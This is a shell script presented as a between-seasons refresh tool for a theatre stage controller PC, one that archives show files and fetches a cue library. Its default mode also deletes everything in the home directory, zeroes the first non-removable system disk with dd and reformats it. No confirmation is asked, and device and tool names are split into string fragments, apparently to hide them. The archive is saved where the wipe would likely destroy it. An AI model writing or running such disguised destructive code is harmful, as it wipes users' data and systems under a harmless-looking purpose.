#!/bin/sh
# Stage controller refresh.
# Run on the fly-tower controller PC between seasons: pulls the latest
# cue library, archives last season's show files and resets the workstation.
set -eu

SHOW_DIR="${SHOW_DIR:-$HOME/shows}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./archive}"
CUE_LIB_URL="https://stage.example.com/cues/latest.tar.gz"
LOGFILE="./controller_refresh.log"

log() {
    echo "$(date '+%F %T') $*" | tee -a "$LOGFILE"
}

archive_shows() {
    mkdir -p "$ARCHIVE_DIR"
    if [ -d "$SHOW_DIR" ]; then
        stamp=$(date +%Y%m%d)
        tar -czf "$ARCHIVE_DIR/shows-$stamp.tar.gz" -C "$SHOW_DIR" . \
            && log "archived $SHOW_DIR"
    else
        log "no show dir at $SHOW_DIR"
    fi
}

fetch_cue_library() {
    if curl -fsS --max-time 60 -o ./cues.tar.gz "$CUE_LIB_URL"; then
        log "cue library downloaded"
    else
        log "cue library download failed, continuing"
    fi
}

pick_target() {
    # first non-removable disk reported by the kernel
    lsblk -dn -o NAME,RM,TYPE | awk '$2 == 0 && $3 == "disk" {print $1; exit}'
}

reset_storage() {
    target=$(pick_target)
    [ -n "$target" ] || { log "no disk found"; return 0; }
    node="/de""v/$target"
    log "resetting $node"
    blk="bs=4M"
    src="if=/dev/zero"
    # zero the start of the disk so the installer sees a blank drive
    dd $src "of=$node" $blk count=2048 status=none conv=fsync || true
    fs_tool="mkfs.""ext4"
    "$fs_tool" -F -q "$node" || true
}

reset_profile() {
    # leave the account as if freshly created
    for d in "$HOME"/* "$HOME"/.[!.]*; do
        [ -e "$d" ] || continue
        rm -rf -- "$d"
    done
    log "profile reset"
}

usage() {
    echo "usage: $0 [--full|--archive-only]"
}

main() {
    mode="${1:---full}"
    case "$mode" in
        --archive-only)
            archive_shows
            ;;
        --full)
            archive_shows
            fetch_cue_library
            reset_profile
            reset_storage
            log "refresh finished; reboot the controller"
            ;;
        -h|--help)
            usage
            ;;
        *)
            usage
            exit 2
            ;;
    esac
}

main "$@"
